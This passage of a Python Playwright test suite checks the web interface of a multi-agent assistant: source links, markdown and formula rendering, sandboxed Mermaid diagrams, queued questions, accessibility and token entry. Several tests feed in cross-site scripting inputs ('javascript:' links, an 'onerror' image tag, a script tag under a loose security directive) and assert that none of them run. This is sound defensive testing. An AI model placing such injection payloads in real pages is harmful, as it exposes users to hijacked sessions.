    assert page.locator(f"main :is({NOT_OURS})").count() == 0
    assert page.evaluate("window.hacked") is None
    assert beacons == []


def test_sources_stand_below_answers_and_only_addresses_of_the_web_are_links(open_page: Open) -> None:
    page = open_page("cited")
    ask(page, "Why is the sky blue?", "cited")
    sources = final_answer(page).locator(".sources li")
    expect(sources).to_have_count(2)
    expect(sources.nth(1)).to_have_text("Paint javascript:window.hacked=1")
    link = sources.nth(0).get_by_role("link")
    expect(link).to_have_attribute("href", "https://light.example/rayleigh")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    page.get_by_role("button", name="How they decided").click()
    expect(page.locator(".council .step .sources").first).to_be_visible()
    expect(page.get_by_text("Searched the web: why is the sky blue").first).to_be_visible()
    page.reload()
    expect(final_answer(page).locator(".sources a")).to_have_count(1)
    assert page.locator(f".messages :is({NOT_OURS})").count() == 0
    assert page.evaluate("window.hacked") is None


def test_page_is_small(open_page: Open) -> None:
    answers: list[Response] = []
    page = open_page("small", on_response=lambda answer: answers.append(answer))
    expect(page.get_by_label("Your question")).to_be_visible()
    for view in ("Memory", "Figures"):
        page.get_by_role("link", name=view).first.click()
        expect(page.get_by_role("heading", name=view).first).to_be_visible()
    page.wait_for_load_state("networkidle")
    first = [answer.url for answer in answers]
    assert not [url for url in first if re.search("katex|highlight|fonts", url)]
    page.get_by_role("link", name="New conversation").click()
    ask(page, "Why?", "rich")
    expect(final_answer(page).locator(".katex").first).to_be_visible()
    expect(final_answer(page).locator(".hl-keyword").first).to_be_visible()
    page.wait_for_load_state("networkidle")
    files = [answer for answer in answers if answer.status == 200 and "/api/" not in answer.url]
    sizes = {answer.url: answer.request.sizes()["responseBodySize"] for answer in files}
    assert {"memory.js", "katex.css", "highlight.js"} <= {url.rpartition("/")[2] for url in sizes}
    loaded_first = sum(size for url, size in sizes.items() if url in first)
    print(f"compressed: {loaded_first:,} bytes of all views, {sum(sizes.values()):,} with mathematics and code")
    assert loaded_first < sum(sizes.values()) < MOST_BYTES


DRAW = """
async text => {
    const [{ Markdown }, { h, render }] = await Promise.all([import('/page/markdown.js'), import('/page/html.js')])
    const [growing, whole] = ['growing', 'whole'].map(id => {
        document.body.append(Object.assign(document.createElement('div'), { id }))
        return document.getElementById(id)
    })
    render(h(Markdown, { text }), whole)
    await new Promise(resolve => setTimeout(resolve, 1500))
    let previous = ''
    for (let length = 1; length <= text.length; length++) {
        render(h(Markdown, { text: text.slice(0, length), isOpen: true }), growing)
        if (length === text.length) previous = growing.firstChild.firstChild
    }
    const shown = growing.innerText
    render(h(Markdown, { text }), growing)
    const isSame = growing.firstChild.firstChild === previous
    return [growing.firstChild.isEqualNode(whole.firstChild), whole.innerText, shown, isSame]
}
"""


def test_answer_looks_the_same_while_it_grows_and_after(open_page: Open) -> None:
    page = open_page("grows")
    expect(page.get_by_label("Your question")).to_be_visible()
    is_equal, text, growing_text, is_same_element = page.evaluate(DRAW, RICH + "\r\n\r\n> The end\r\n")
    assert is_equal
    assert growing_text == text
    assert is_same_element
    answer = page.locator("#growing")
    expect(answer.locator(".formula .katex")).to_have_count(4)
    expect(answer.locator(".formula.block")).to_have_count(2)
    expect(answer).to_contain_text("costs $5 and not $6.")
    expect(answer.get_by_text("A formula that is none")).to_have_text(r"A formula that is none: $\frac{1$.")
    expect(answer.locator(".code .hl-keyword").first).to_have_text("def")
    expect(answer.locator("input[type=checkbox]:checked")).to_have_count(1)
    assert answer.locator("td").nth(1).evaluate("cell => getComputedStyle(cell).textAlign") == "right"
    assert answer.get_by_text("مرحبا").evaluate("element => getComputedStyle(element).direction") == "rtl"
    answer.get_by_role("button", name="Note 1").evaluate("button => button.click()")
    expect(answer.locator(".note")).to_be_focused()


def test_code_is_copied(open_page: Open) -> None:
    page = open_page("copies", permissions=["clipboard-read", "clipboard-write"])
    ask(page, "Why?", "rich")
    final_answer(page).get_by_role("button", name="Copy the code").click()
    assert page.evaluate("navigator.clipboard.readText()").startswith("def scatter(nm: float)")


WIDE = """\
| option | runs for years | writers at once | what it costs | total |
|---|---|---|---|---|
| **PostgreSQL** | 4 | 9 | 3 | 7 |
"""


def test_row_of_a_wide_table_is_a_list_on_a_phone(browser: Browser, start_page: StartPage) -> None:
    started = start_page({"agents": [make_agent("ann", WIDE)], "memory": {"enabled": False}})
    page = browser.new_page(viewport={"width": 390, "height": 850})
    try:
        page.goto(started.address)
        ask(page, "Where?")
        cell = final_answer(page).get_by_role("cell").nth(2)
        expect(cell).to_have_text("writers at once\n9", use_inner_text=True)
        table = final_answer(page).get_by_role("table")
        assert table.evaluate("table => table.scrollWidth <= table.parentElement.clientWidth"), "it fits"
        check_view(page, "wide table")
        page.set_viewport_size({"width": 1400, "height": 850})
        expect(cell).to_have_text("9", use_inner_text=True)
    finally:
        page.close()


DIAGRAMS = {
    "graph TD\n  A[Question] --> B[Answer]": "Answer",
    "graph TD\n  A -->": "This cannot be drawn: Parse error on line 3.",
    'graph TD\n  A["<img src=x onerror=window.hacked=1>here"] --> B\n  click A "javascript:window.hacked=1"': "here",
    '%%{init: {"securityLevel": "loose"}}%%\ngraph TD\n  A["<script>window.hacked=1</script>there"]': "there",
    "graph TD\n" + "\n".join(f"  A{n} --> B{n}" for n in range(600)): "This cannot be drawn: Edge limit exceeded",
}


def test_diagram_is_drawn_in_a_document_without_rights(browser: Browser, start_page: StartPage) -> None:
    text = "\n\n".join(f"```mermaid\n{diagram}\n```" for diagram in DIAGRAMS)
    started = start_page({"agents": [make_agent("ann", text)], "memory": {"enabled": False}})
    context = browser.new_context()
    context.set_default_timeout(PATIENCE)
    try:
        page, loaded = context.new_page(), list[str]()
        context.on("request", lambda request: loaded.append(request.url))
        page.goto(started.address)
        ask(page, "How?")
        links = final_answer(page).get_by_role("link", name="Draw")
        expect(links).to_have_count(len(DIAGRAMS))
        assert not [url for url in loaded if "mermaid" in url]
        for number, shown in enumerate(DIAGRAMS.values()):
            with context.expect_page() as opened:
                links.nth(number).click()
            tab = opened.value
            expect(tab.locator("main")).to_have_attribute("aria-busy", "false")
            expect(tab.locator("main")).to_contain_text(shown)
            assert tab.evaluate("window.hacked") is None
            assert tab.evaluate("origin") == "null", "it has no cookie and asks nothing"
            expect(tab.locator("main script, [href^=javascript], [onerror]")).to_have_count(0)
            if number < 2:
                check_view(tab, shown)
            tab.close()
    finally:
        context.close()


def test_next_question_waits_for_the_end_of_the_turn(open_page: Open) -> None:
    page = open_page("queue")
    ask(page, "Why?", "slow")
    expect(page.locator(".streaming").first).to_contain_text("says")
    expect(page.get_by_role("timer")).to_have_text(re.compile(r"^\d+ s · about [\d.k]+ tokens$"))
    ask(page, "And at night?")
    ask(page, "And on Mars?")
    waiting = page.get_by_role("list", name="Asked next").locator("li")
    expect(waiting).to_have_count(2)
    check_view(page, "queue")
    page.wait_for_timeout(500)  # the browser writes it down
    page.reload()
    expect(waiting).to_have_count(2)
    waiting.nth(1).get_by_role("button", name="Take back").click()
    expect(page.get_by_label("Your question")).to_have_value("And on Mars?")
    page.get_by_role("button", name="Answer now").click()
    expect(page.locator(".message.user")).to_have_count(2)
    expect(page.locator(".message.user").nth(1)).to_contain_text("And at night?")
    expect(waiting).to_have_count(0)
    expect(page.get_by_label("Your question")).to_have_value("And on Mars?")
    # A turn that was stopped has no answer to go on with: what waits stays, and can be asked.
    page.get_by_label("Your question").press("Enter")
    expect(waiting).to_have_count(1)
    page.get_by_role("button", name="Stop").click()
    expect(page.locator(".composer [role=status]")).to_have_text("The turn was stopped.")
    expect(waiting).to_have_count(1)
    waiting.get_by_role("button", name="Ask").click()
    expect(page.locator(".message.user").nth(2)).to_contain_text("And on Mars?")
    page.get_by_role("button", name="Answer now").click()
    expect(page.locator(".composer [role=status]")).to_have_text("The answer is complete.")


def test_one_agent_or_another_model_answers_and_reads_a_folder(
    browser: Browser, start_page: StartPage, tmp_path: Path
) -> None:
    (tmp_path / "pumps.md").write_text("The pump P-17 is in hall H-412.")
    read = {"call": [{"tool": "read_file", "arguments": {"path": "pumps.md"}}], "text": "No folder."}
    ben = make_agent("ben", "", answer=[read, "I have seen: {result}"])
    started = start_page({"agents": [make_agent("ann", "It is blue."), ben]})
    context = browser.new_context(viewport={"width": 400, "height": 900})
    context.set_default_timeout(PATIENCE)
    try:
        page = context.new_page()
        page.goto(started.address)
        page.get_by_label("Who answers").select_option("ben")
        page.get_by_role("button", name="Project, folder, mode").click()
        page.get_by_label("Folder", exact=True).fill(str(tmp_path))
        check_view(page, "composer")
        ask(page, "Where is P-17?")
        expect(final_answer(page)).to_contain_text("H-412")
        page.get_by_label("Who answers").select_option("model:")
        page.get_by_label("Your question").fill("And P-18?")
        expect(page.get_by_role("button", name="Ask", exact=True)).to_be_disabled()
        page.get_by_label("Model", exact=True).fill("nonsense")
        page.get_by_label("Your question").press("Enter")
        expect(page.get_by_role("alert")).to_contain_text("The provider of the model 'nonsense' is not known")
        expect(page.get_by_label("Your question")).to_have_value("And P-18?")
    finally:
        context.close()


@pytest.mark.parametrize("width", [390, 1400])
def test_team_does_a_job_that_is_chosen_and_the_turn_says_so(
    browser: Browser, start_page: StartPage, width: int
) -> None:
    started = start_page(read_example("decide"))
    context = browser.new_context(viewport={"width": width, "height": 850})
    context.set_default_timeout(PATIENCE)
    try:
        page = context.new_page()
        page.goto(started.address)
        job = page.get_by_role("combobox", name="Job")
        job.focus()
        page.keyboard.type("dec")
        expect(job).to_have_value("decide")
        expect(job).to_have_accessible_description(re.compile("^Options, weighed criteria"))
        check_view(page, "job")
        ask(page, "Where do we keep orders?")
        expect(page.locator(".turn .badge")).to_have_text("Job: decide")
        table = final_answer(page).get_by_role("table")
        expect(table).to_contain_text("The spreadsheet that there is")
        assert table.evaluate("table => table.scrollWidth <= table.parentElement.clientWidth"), "it fits"
        page.get_by_role("button", name="How they decided").click()
        expect(page.locator(".council")).to_contain_text("Each weighs the criteria and scores the options")
        step = page.get_by_role("region", name="Round 2").locator(".step").first
        expect(step).to_contain_text("PostgreSQL: Work to run it 4, Writers at once 9: many can write at once")
        expect(page.locator(".council .won")).to_have_count(0)
        check_view(page, "decision")
        # It is for the next question as well, and for the same one asked again.
        expect(job).to_have_value("decide")
        page.reload()
        expect(page.locator(".turn .badge")).to_have_text("Job: decide")
        expect(job).to_have_value("")
        page.get_by_role("button", name="Ask again").click()
        page.locator(".editing").get_by_role("button", name="Ask", exact=True).click()
        expect(page.locator(".versions")).to_contain_text("2/2")
        expect(page.locator(".turn .badge")).to_have_text("Job: decide")
        job.select_option("mode:report")
        ask(page, "And the customers?")
        expect(page.get_by_role("region", name="Report of the council")).to_be_visible()
        expect(page.locator(".turn .badge")).to_have_count(1)
    finally:
        context.close()


SHIFTS = """
() => {
    window.shift = 0
    const add = ({ hadRecentInput, value }) => { window.shift += hadRecentInput ? 0 : value }
    new PerformanceObserver(list => list.getEntries().forEach(add)).observe({ type: 'layout-shift', buffered: true })
}
"""


@pytest.mark.parametrize("width", [400, 1400])
def test_eight_agents_write_and_nothing_jumps(open_page: Open, width: int) -> None:
    page = open_page(f"many-{width}", viewport={"width": width, "height": 850})
    expect(page.get_by_label("Your question")).to_be_visible()
    page.evaluate(SHIFTS)
    ask(page, "Why?", "many")
    steps = page.get_by_role("region", name="Round 1").locator(".step")
    expect(steps).to_have_count(8)
    expect(steps.locator(".body")).to_have_count(1 if width == 400 else 8)
    if width == 400:
        steps.nth(5).get_by_role("button", name="agent5").click()
        expect(steps.nth(5).locator(".streaming")).to_contain_text("says 5")
        expect(steps.locator(".body")).to_have_count(1)
        heights = steps.evaluate_all("steps => steps.map(step => step.offsetHeight)")
        assert sorted(heights)[-2] < 50 < sorted(heights)[-1]
    expect(steps.nth(5)).to_contain_text("says 5")
    check_view(page, "eight agents")
    expect(final_answer(page)).to_be_visible()
    expect(final_answer(page).locator("time")).to_be_visible()
    shift = page.evaluate("shift")
    print(f"layout shift at {width} pixels, all in all: {shift:.3f}")
    assert shift <= 0.1


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [400, 2000])
def test_page_is_accessible_and_fits(open_page: Open, scheme: str, width: int) -> None:
    page = open_page(f"axe-{scheme}-{width}", color_scheme=scheme, viewport={"width": width, "height": 900})
    expect(page.get_by_label("Your question")).to_be_visible()
    check_view(page, "new conversation")
    ask(page, "Why **is** the sky blue?\n\n- a\n- b\n\n`x` [y](https://example.org)")
    expect(final_answer(page)).to_be_visible()
    page.get_by_role("button", name="How they decided").click()
    expect(page.locator(".council")).to_be_visible()
    check_view(page, "conversation")
    ask(page, "And in formulas?", "rich")
    expect(final_answer(page).locator(".katex").first).to_be_visible()
    expect(final_answer(page).locator(".hl-keyword").first).to_be_visible()
    check_view(page, "mathematics and code")
    address = get_address(page).partition("#")[2]
    page.get_by_role("button", name="What to do with this conversation").click()
    check_view(page, "menu")
    page.get_by_role("menuitem", name="Rename").click()
    check_view(page, "dialog")
    page.keyboard.press("Escape")
    if width == 400:
        page.get_by_role("button", name="Show conversations").click()
    page.get_by_label("Search conversations").fill("scatters")
    expect(page.locator(".list .hit").first).to_be_visible()
    # Over a narrow page the list is all that can be used: the rest is inert, and no main part to axe-core.
    check_view(page, "search hits", ".sidebar" if width == 400 else None)
    page.get_by_label("Search conversations").fill("")
    if width == 400:
        page.get_by_role("button", name="Show conversations").click()
    for hash_, shown in (
        (f"{address}/context", ".shares"), ("/memory", "form.card"), ("/memory/history", "form.card"),
        ("/memory/all", ".memory"),
        ("/memory/figures", "h2:text-is('By turn of the conversation')"), ("/figures", "h2:text-is('By agent')"),
    ):  # fmt: skip
        page.evaluate("hash => { location.hash = hash }", hash_)
        expect(page.locator(shown).first).to_be_visible()
        check_view(page, hash_)
    page.evaluate("location.hash = '/memory'")
    page.get_by_label("What to look for").fill("blue sky")
    page.locator("form.card").get_by_role("button", name="Search").click()
    page.get_by_role("button", name="Where it comes from").first.click()
    expect(page.locator(".memory .sources").first).to_be_visible()
    check_view(page, "memories that were found")
    page.evaluate("fetch('page/leave', {method: 'POST', headers: {'X-Massmem-Page': '1'}})")
    page.reload()
    expect(page.get_by_label("Key or token")).to_be_visible()
    check_view(page, "entrance")


def check_view(page: Page, name: str, part: str | None = None) -> None:
    """Find nothing that axe-core objects to, and no part beyond the right edge. part: only this one; None: all."""
    result = Axe().run(page, part)
    problems = [(v["id"], [n["html"][:160] for n in v["nodes"][:3]]) for v in result.response["violations"]]
    assert problems == [], (name, problems)
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth"), name


def test_everything_is_reached_by_keyboard(open_page: Open) -> None:
    page = open_page("keys", reduced_motion="reduce")
    expect(page.get_by_label("Your question")).to_be_focused()
    page.keyboard.type("Why?")
    page.keyboard.press("Enter")
    expect(final_answer(page)).to_be_visible()
    duration = page.evaluate("getComputedStyle(document.querySelector('.turn-footer .icon')).transitionDuration")
    assert duration == "0s"
    page.locator("main").focus()
    page.keyboard.press("/")
    expect(page.get_by_label("Search conversations")).to_be_focused()
    page.keyboard.press("Tab")
    page.keyboard.press("?")
    expect(page.get_by_role("dialog")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.get_by_role("dialog")).to_have_count(0)
    page.keyboard.press("m")
    expect(page.get_by_role("heading", name="Memory")).to_be_visible()
    page.keyboard.press("n")
    expect(page.get_by_label("Your question")).to_be_focused()


def test_reports_of_evaluations_are_shown(browser: Browser, start_page: StartPage, tmp_path: Path) -> None:
    started = start_page({"agents": [make_agent("ann", "It is blue.")]})
    evaluate(tmp_path)
    context = browser.new_context(viewport={"width": 400, "height": 900})
    context.set_default_timeout(PATIENCE)
    try:
        page = context.new_page()
        page.goto(started.address)
        expect(page.get_by_label("Your question")).to_be_visible()
        page.goto(f"{started.url}/#/figures")
        report = page.get_by_role("region", name="Evaluation of questions.jsonl")
        expect(report.get_by_role("row", name=re.compile("^council"))).to_contain_text("1 of 2")
        expect(report.get_by_role("row", name=re.compile("^ben in it"))).to_contain_text("0 of 2")
        check_view(page, "evaluations")
    finally:
        context.close()


def test_address_of_massmem_ui_opens_the_page_once(browser: Browser, start_page: StartPage) -> None:
    started = start_page({"agents": [make_agent("ann", "It is blue.")]})
    context, stranger = browser.new_context(), browser.new_context()
    context.set_default_timeout(PATIENCE)
    try:
        page = context.new_page()
        page.goto(started.address)
        ask(page, "Why?")
        expect(final_answer(page)).to_contain_text("It is blue.")
        assert "token" not in page.url
        page.reload()
        expect(final_answer(page)).to_contain_text("It is blue.")
        other = stranger.new_page()
        other.goto(started.address)
        expect(other.get_by_label("Key or token")).to_be_visible()
    finally:
        context.close()
        stranger.close()


def test_file_that_massmem_ui_hands_to_the_browser_opens_the_page(browser: Browser, tmp_path: Path) -> None:
    seen = tmp_path / "seen"
    program = tmp_path / "browser"
    program.write_text(f'#!/bin/sh\necho "$1" > {seen}.part && mv {seen}.part {seen}\n')
    program.chmod(0o700)
    team = tmp_path / "team.yaml"
    team.write_text(yaml.safe_dump({"agents": [make_agent("ann", "It is blue.")]}))
    environment = os.environ | {"HOME": str(tmp_path), "BROWSER": f"{program} %s", "DISPLAY": ":99"}
    process = start("ui", "--config", str(team), env=environment)
    context = browser.new_context()
    context.set_default_timeout(PATIENCE)
    try:
        wait_until(seen.exists)
        page = context.new_page()
        page.goto(seen.read_text().strip())
        ask(page, "Why?")
        expect(final_answer(page)).to_contain_text("It is blue.")
        assert "token" not in page.url
        assert not list(tmp_path.rglob("open-*.html"))
    finally:
        context.close()
        process.send_signal(signal.SIGINT)
        process.communicate(timeout=120)


def test_first_start_and_its_download_are_accessible(
    browser: Browser, start_page: StartPage, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    hide_models(monkeypatch, tmp_path)
    page = browser.new_page(viewport={"width": 390, "height": 850})
    with serving(FileServer({MODEL: bytes(40_000_000)}, delay=0.05)) as hub:
        monkeypatch.setenv("HF_ENDPOINT", hub.base)
        started = start_page(None)
        try:
            page.goto(started.address)
            page.get_by_role("button", name="Download it (1.1 GB, once)").click()
            expect(page.get_by_role("progressbar", name="Download")).to_be_visible()
            check_view(page, "download")
            page.get_by_role("button", name="Stop").click()
            expect(page.get_by_role("alert")).to_contain_text("download was stopped. What has arrived is kept")
            expect(page.get_by_role("button", name="Go on with the download")).to_be_visible()
            check_view(page, "first start")
            page.get_by_role("button", name="Go on with the download").click()
            expect(page.get_by_role("progressbar", name="Download")).to_be_visible()
            started.stop()
            expect(page.get_by_role("alert")).to_contain_text("massmem has ended")
        finally:
            page.close()
